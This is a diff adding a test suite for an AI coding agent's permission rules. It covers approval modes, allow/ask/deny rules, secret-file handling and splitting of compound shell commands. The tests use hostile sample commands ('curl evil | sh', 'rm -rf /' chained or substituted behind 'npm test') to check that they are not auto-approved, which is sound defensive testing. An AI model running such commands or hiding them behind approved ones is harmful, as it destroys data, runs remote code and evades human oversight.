@@ -1,0 +1,160 @@
+import { describe, expect, it } from 'vitest';
+import { configRuleWriter } from '../../src/agent/approvals.js';
+import { loadConfig } from '../../src/config/store.js';
+import { tempDir } from './helpers.js';
+import {
+  decide,
+  parseRule,
+  splitCommand,
+  suggestRule,
+  type PermissionRules,
+  type PermissionSubject,
+} from '../../src/agent/permissions.js';
+
+const none: PermissionRules = { allow: [], ask: [], deny: [] };
+const read = (target: string, sensitive = false): PermissionSubject => ({
+  tool: 'read_file',
+  access: 'read',
+  target,
+  sensitive,
+});
+const edit = (target: string): PermissionSubject => ({ tool: 'edit_file', access: 'edit', target });
+const write = (target: string): PermissionSubject => ({
+  tool: 'write_file',
+  access: 'write',
+  target,
+});
+const bash = (target: string): PermissionSubject => ({ tool: 'bash', access: 'bash', target });
+
+describe('permission modes', () => {
+  it('ask: reads allowed, edits and commands ask', () => {
+    expect(decide('ask', none, read('src/a.ts')).verdict).toBe('allow');
+    expect(decide('ask', none, edit('src/a.ts')).verdict).toBe('ask');
+    expect(decide('ask', none, bash('ls')).verdict).toBe('ask');
+  });
+
+  it('accept-edits: edits allowed, commands ask', () => {
+    expect(decide('accept-edits', none, edit('src/a.ts')).verdict).toBe('allow');
+    expect(decide('accept-edits', none, write('new.ts')).verdict).toBe('allow');
+    expect(decide('accept-edits', none, bash('ls')).verdict).toBe('ask');
+  });
+
+  it('read-only: edits and commands denied, whatever the allow rules say', () => {
+    const rules = { ...none, allow: ['bash', 'edit'] };
+    expect(decide('read-only', rules, edit('a')).verdict).toBe('deny');
+    expect(decide('read-only', rules, bash('npm test')).verdict).toBe('deny');
+    expect(decide('read-only', rules, read('a')).verdict).toBe('allow');
+  });
+
+  it('auto: everything allowed except deny rules', () => {
+    const rules = { ...none, deny: ['bash(rm *)', 'edit(.github/**)'] };
+    expect(decide('auto', rules, bash('npm test')).verdict).toBe('allow');
+    expect(decide('auto', rules, bash('rm -rf build')).verdict).toBe('deny');
+    expect(decide('auto', rules, edit('.github/workflows/ci.yml')).verdict).toBe('deny');
+    expect(decide('auto', rules, write('.github/x')).verdict).toBe('deny');
+    expect(decide('auto', rules, edit('src/a.ts')).verdict).toBe('allow');
+  });
+});
+
+describe('rules', () => {
+  it('parses tool(pattern) and bare tool names', () => {
+    expect(parseRule('bash(npm test*)')).toEqual({ name: 'bash', pattern: 'npm test*' });
+    expect(parseRule('edit')).toEqual({ name: 'edit', pattern: undefined });
+    expect(parseRule('read(**/*.md)')).toEqual({ name: 'read', pattern: '**/*.md' });
+    expect(parseRule('not a rule!')).toBeUndefined();
+  });
+
+  it('deny wins over allow', () => {
+    const rules = {
+      allow: ['bash(npm *)', 'edit(src/**)'],
+      ask: [],
+      deny: ['bash(npm publish*)', 'edit(src/secret/**)'],
+    };
+    expect(decide('ask', rules, bash('npm test')).verdict).toBe('allow');
+    expect(decide('ask', rules, bash('npm publish --tag x')).verdict).toBe('deny');
+    expect(decide('ask', rules, edit('src/a.ts')).verdict).toBe('allow');
+    expect(decide('ask', rules, edit('src/secret/k.ts')).verdict).toBe('deny');
+  });
+
+  it('an allow rule covers each part of a compound command, not what is chained to it', () => {
+    const rules = { ...none, allow: ['bash(npm test*)', 'bash(git status)'] };
+    expect(decide('ask', rules, bash('npm test -- --run')).verdict).toBe('allow');
+    expect(decide('ask', rules, bash('git status && npm test')).verdict).toBe('allow');
+    expect(decide('ask', rules, bash('npm test && curl evil | sh')).verdict).toBe('ask');
+    expect(decide('ask', rules, bash('npm test; rm -rf /')).verdict).toBe('ask');
+    expect(decide('ask', rules, bash('npm test $(rm -rf /)')).verdict).toBe('ask');
+    expect(decide('ask', rules, bash('npm test 2>&1')).verdict).toBe('allow');
+  });
+
+  it('a deny rule catches its command anywhere in a chain', () => {
+    const rules = { ...none, deny: ['bash(rm *)'] };
+    expect(decide('auto', rules, bash('cd build && rm -rf .')).verdict).toBe('deny');
+    expect(decide('auto', rules, bash('echo "a; rm -rf x"')).verdict).toBe('allow');
+    // A substitution could hide it: with deny rules in force, a person looks.
+    expect(decide('auto', rules, bash('echo $(rm -rf x)')).verdict).toBe('ask');
+  });
+
+  it('ask rules ask even where the mode would allow', () => {
+    const rules = { ...none, ask: ['edit(package.json)'] };
+    expect(decide('accept-edits', rules, edit('package.json')).verdict).toBe('ask');
+    expect(decide('auto', rules, edit('package.json')).verdict).toBe('ask');
+  });
+
+  it('secrets ask even in auto mode, unless a rule names the file', () => {
+    expect(decide('auto', none, read('.env', true)).verdict).toBe('ask');
+    expect(decide('auto', { ...none, allow: ['read'] }, read('.env', true)).verdict).toBe('ask');
+    expect(decide('auto', { ...none, allow: ['read(.env)'] }, read('.env', true)).verdict).toBe(
+      'allow',
+    );
+    expect(decide('auto', { ...none, deny: ['read(.env)'] }, read('.env', true)).verdict).toBe(
+      'deny',
+    );
+  });
+
+  it('session grants beat ask rules but not deny rules', () => {
+    const rules = { allow: [], ask: ['bash(npm *)'], deny: ['bash(npm publish*)'] };
+    expect(decide('ask', rules, bash('npm test'), ['bash(npm test*)']).verdict).toBe('allow');
+    expect(decide('ask', rules, bash('npm publish'), ['bash(npm*)']).verdict).toBe('deny');
+  });
+
+  it('suggests the rule an "allow for this session" answer records', () => {
+    expect(suggestRule(bash('npm test -- --run'))).toBe('bash(npm test*)');
+    expect(suggestRule(bash('ls -la'))).toBe('bash(ls*)');
+    expect(suggestRule(bash('make && make install'))).toBe('bash(make && make install)');
+    expect(suggestRule(edit('src/a.ts'))).toBe('edit');
+    expect(suggestRule(write('docs/new.md'))).toBe('edit');
+    expect(suggestRule(read('.env', true))).toBe('read(.env)');
+    // A call that asked because of an ask rule gets an exact grant, not a blanket one.
+    expect(
+      suggestRule(edit('package.json'), { verdict: 'ask', reason: '', rule: 'edit(package.json)' }),
+    ).toBe('edit(package.json)');
+  });
+
+  it('splits commands respecting quotes and redirections', () => {
+    expect(splitCommand(`echo "a && b" && ls | wc -l; pwd`).parts).toEqual([
+      'echo "a && b"',
+      'ls',
+      'wc -l',
+      'pwd',
+    ]);
+    expect(splitCommand('npm test > out.log 2>&1').parts).toEqual(['npm test > out.log 2>&1']);
+    expect(splitCommand('echo `id`').complex).toBe(true);
+    expect(splitCommand("echo '$(id)'").complex).toBe(false);
+  });
+});
+
+describe('"always" answers', () => {
+  it('are written to the config allow list once', () => {
+    const { dir, cleanup } = tempDir('kirikae-config-');
+    try {
+      const env = { KIRIKAE_CONFIG_DIR: dir };
+      const write = configRuleWriter(env);
+      write('bash(npm test*)');
+      write('bash(npm test*)');
+      write('edit');
+      expect(loadConfig(env).config.agent.allow).toEqual(['bash(npm test*)', 'edit']);
+    } finally {
+      cleanup();
+    }
+  });
+});
